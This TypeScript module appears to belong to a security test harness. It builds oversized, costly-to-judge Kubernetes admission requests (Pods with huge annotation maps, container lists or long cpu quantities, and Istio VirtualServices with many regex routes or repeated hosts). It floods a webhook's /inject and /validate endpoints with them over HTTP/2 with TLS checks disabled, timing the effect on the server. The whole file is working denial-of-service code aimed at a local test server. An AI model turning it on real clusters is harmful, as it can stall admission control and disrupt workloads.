/**
 * Well-formed admission requests that are each expensive to judge, from one client: a Pod with as many
 * annotations as fit in the body to `/inject`, or a VirtualService with as many regex routes as fit to
 * `/validate`, every body just under the admission body cap; or a body of `bodyBytes` that cost more than its
 * size once did: a VirtualService naming one host as many times as fit (`hosts`, every overlapping pair was an
 * error), a Pod whose cpu limit is a fraction of as many zeros as fit, then a one (`quantity`), or a Pod of as
 * many containers as fit (`containers`: the template appends each one's name to a list it copies). The bodies are built once; `inFlight` requests
 * are kept going on one HTTP/2 connection (`node:http2`, TLS), each sent again as soon as it is answered, for
 * `holdS` seconds. It measures what one caller's reviews cost the server's event loop: the harness's `/ready`
 * probe and push watcher run beside it. The attacker process is started with
 * `--unsafely-ignore-certificate-errors=127.0.0.1` (the server's certificate is its own CA's).
 *
 * @module
 */
import http2 from "node:http2";
import { Buffer } from "node:buffer";
import { summarize } from "../latency_stats.ts";

/** Sizes of the attack. */
export interface WebhookCpuSizes {
  /** `inject`, `quantity`: a Pod to `/inject`; `validate`, `hosts`: a VirtualService to `/validate`. */
  readonly review: WebhookReview;
  /** The most bytes of each body: the object holds as many annotations or routes as fit. */
  readonly bodyBytes: number;
  /** Requests in flight at once. */
  readonly inFlight: number;
  /** Seconds to keep sending; the requests in flight then are awaited. */
  readonly holdS: number;
}

/** What each request asks the webhook to judge (see the module's summary). */
export type WebhookReview = "inject" | "validate" | "hosts" | "quantity" | "containers";

type Obj = Record<string, unknown>;

/** Stands where the repeated entries go; replaced in the JSON text. */
const FILL = "\u0000fill";
const NAMESPACE = "attack";
/** A failed request is sent again after this, so a server that is gone is not asked in a tight loop. */
const RETRY_PAUSE_MS = 100;

/** `object` in an AdmissionReview (v1) asking to create it, as the orchestrator sends one. */
function admissionReview(object: Obj, group: string, version: string, resource: string): Obj {
  return {
    apiVersion: "admission.k8s.io/v1",
    kind: "AdmissionReview",
    request: {
      uid: "abuse-webhook-cpu",
      kind: { group, version, kind: object.kind },
      resource: { group, version, resource },
      namespace: NAMESPACE,
      operation: "CREATE",
      object,
    },
  };
}

/** A built body and how many entries its object holds. */
interface Body {
  readonly bytes: Buffer;
  readonly entries: number;
}

/**
 * `review` as JSON with its one {@link FILL} string replaced by as many `entry(i)` as keep the whole within
 * `bytes`: an object's members (`{`) or an array's items (`[`). Every entry is ASCII.
 */
function filled(review: Obj, open: "{" | "[", entry: (i: number) => string, bytes: number): Body {
  const [head, tail] = JSON.stringify(review).split(JSON.stringify(FILL));
  const entries: string[] = [];
  let size = head.length + tail.length + 2;
  for (let i = 0;; i++) {
    const next = entry(i);
    const added = next.length + (entries.length > 0 ? 1 : 0);
    if (size + added > bytes) break;
    entries.push(next);
    size += added;
  }
  const close = open === "{" ? "}" : "]";
  return { bytes: Buffer.from(head + open + entries.join(",") + close + tail), entries: entries.length };
}

/** A Pod whose metadata holds annotations `a<i>: "v"` up to `bytes`. */
function podBody(bytes: number): Body {
  const pod = {
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: "tenant-app", namespace: NAMESPACE, labels: { app: "tenant-app" }, annotations: FILL },
    spec: { containers: [{ name: "app", image: "example/app:1", ports: [{ containerPort: 8080 }] }] },
  };
  return filled(admissionReview(pod, "", "v1", "pods"), "{", (i) => `"a${i}":"v"`, bytes);
}

/** A VirtualService whose HTTP routes, one a tenant, each match a regex, up to `bytes`. */
function virtualServiceBody(bytes: number): Body {
  const virtualService = {
    apiVersion: "networking.istio.io/v1beta1",
    kind: "VirtualService",
    metadata: { name: "tenants", namespace: NAMESPACE },
    spec: { hosts: [`tenants.${NAMESPACE}.svc.cluster.local`], http: FILL },
  };
  const route = (i: number) =>
    JSON.stringify({
      match: [{ uri: { regex: `^/tenant-${i}/(a|b)+[0-9]{2,4}$` } }],
      route: [{
        destination: { host: `tenant-${i}.${NAMESPACE}.svc.cluster.local`, port: { number: 8080 } },
      }],
      timeout: "5s",
      retries: { attempts: 2, perTryTimeout: "2s" },
    });
  const review = admissionReview(virtualService, "networking.istio.io", "v1beta1", "virtualservices");
  return filled(review, "[", route, bytes);
}

/** A VirtualService naming one host as many times as fit in `bytes`. */
function duplicateHostsBody(bytes: number): Body {
  const virtualService = {
    apiVersion: "networking.istio.io/v1beta1",
    kind: "VirtualService",
    metadata: { name: "tenants", namespace: NAMESPACE },
    spec: {
      hosts: FILL,
      http: [{ route: [{ destination: { host: `tenants.${NAMESPACE}.svc.cluster.local` } }] }],
    },
  };
  const review = admissionReview(virtualService, "networking.istio.io", "v1beta1", "virtualservices");
  return filled(review, "[", () => `"tenants.${NAMESPACE}.svc.cluster.local"`, bytes);
}

/** A Pod whose container's cpu limit is `0.`, as many zeros as fit in `bytes`, then `1`. */
function quantityBody(bytes: number): Body {
  const pod = {
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: "tenant-app", namespace: NAMESPACE, labels: { app: "tenant-app" } },
    spec: { containers: [{ name: "app", image: "example/app:1", resources: { limits: { cpu: FILL } } }] },
  };
  const [head, tail] = JSON.stringify(admissionReview(pod, "", "v1", "pods")).split(JSON.stringify(FILL));
  const zeros = Math.max(0, bytes - head.length - tail.length - 5);
  return { bytes: Buffer.from(`${head}"0.${"0".repeat(zeros)}1"${tail}`), entries: zeros };
}

/** A Pod of as many containers, `c<i>` with an image, as fit in `bytes`. */
function containersBody(bytes: number): Body {
  const pod = {
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: "tenant-app", namespace: NAMESPACE, labels: { app: "tenant-app" } },
    spec: { containers: FILL },
  };
  return filled(admissionReview(pod, "", "v1", "pods"), "[", (i) => `{"name":"c${i}","image":"a"}`, bytes);
}

/** The body of each request of `review`, and what its entries are. */
function bodyOf(review: WebhookReview, bytes: number): Body & { readonly what: string } {
  switch (review) {
    case "inject":
      return { ...podBody(bytes), what: "annotations" };
    case "validate":
      return { ...virtualServiceBody(bytes), what: "routes" };
    case "hosts":
      return { ...duplicateHostsBody(bytes), what: "hosts" };
    case "quantity":
      return { ...quantityBody(bytes), what: "zeros" };
    case "containers":
      return { ...containersBody(bytes), what: "containers" };
  }
}

/** Posts `body` on one stream; resolves with the status and the answer's text once it has all arrived. */
function post(
  session: http2.ClientHttp2Session,
  path: string,
  body: Buffer,
): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = session.request({ ":method": "POST", ":path": path, "content-type": "application/json" });
    let status = 0;
    const chunks: Buffer[] = [];
    req.on("response", (headers) => status = Number(headers[":status"]));
    req.on("data", (chunk: Buffer) => chunks.push(chunk));
    req.on("end", () => resolve({ status, text: Buffer.concat(chunks).toString() }));
    req.on("error", reject);
    req.on("close", () => reject(new Error(`Stream closed before its answer ended (code ${req.rstCode})`)));
    req.end(body);
  });
}

/** Whether a 200 answer admitted the object, or why not (an excerpt of the AdmissionReview's message). */
function verdict(text: string): { allowed: boolean; message?: string } {
  try {
    const response = JSON.parse(text).response ?? {};
    return {
      allowed: response.allowed === true,
      message: String(response.status?.message ?? "").slice(0, 200),
    };
  } catch {
    return { allowed: false, message: `not an AdmissionReview: ${text.slice(0, 100)}` };
  }
}

/** Runs the attack; resolves with the requests sent, the answers by status and verdict, and their times. */
export async function webhookCpu(
  httpsAddr: string,
  sizes: WebhookCpuSizes,
): Promise<Record<string, unknown>> {
  const body = bodyOf(sizes.review, sizes.bodyBytes);
  const path = sizes.review === "validate" || sizes.review === "hosts" ? "/validate" : "/inject";
  const statuses: Record<string, number> = {};
  const count = (key: string) => statuses[key] = (statuses[key] ?? 0) + 1;
  const verdicts = { allowed: 0, denied: 0 };
  let firstDenial: string | undefined;
  const answerMs: number[] = [];
  let sent = 0;
  let session: http2.ClientHttp2Session | undefined;
  // A connection the server closed (or reset) is opened again for the next request.
  const connected = () => {
    if (session === undefined || session.closed || session.destroyed) {
      session = http2.connect(`https://${httpsAddr}`, { rejectUnauthorized: false });
      session.on("error", () => {});
    }
    return session;
  };
  const startedAt = performance.now();
  const until = startedAt + sizes.holdS * 1000;
  await Promise.all(Array.from({ length: sizes.inFlight }, async () => {
    while (performance.now() < until) {
      sent++;
      const started = performance.now();
      try {
        const answer = await post(connected(), path, body.bytes);
        answerMs.push(performance.now() - started);
        count(String(answer.status));
        if (answer.status !== 200) continue;
        const { allowed, message } = verdict(answer.text);
        verdicts[allowed ? "allowed" : "denied"]++;
        if (!allowed) firstDenial ??= message;
      } catch (error) {
        count(`error ${(error as Error).message.slice(0, 60)}`);
        await new Promise((resolve) => setTimeout(resolve, RETRY_PAUSE_MS));
      }
    }
  }));
  session?.destroy();
  const times = summarize(answerMs);
  return {
    path,
    bodyBytes: body.bytes.length,
    [body.what]: body.entries,
    sent,
    answered: answerMs.length,
    statuses,
    verdicts,
    ...(firstDenial !== undefined && { firstDenial }),
    answerMs: { p50: times.p50, max: times.max },
    seconds: Math.round((performance.now() - startedAt) / 1000),
  };
}
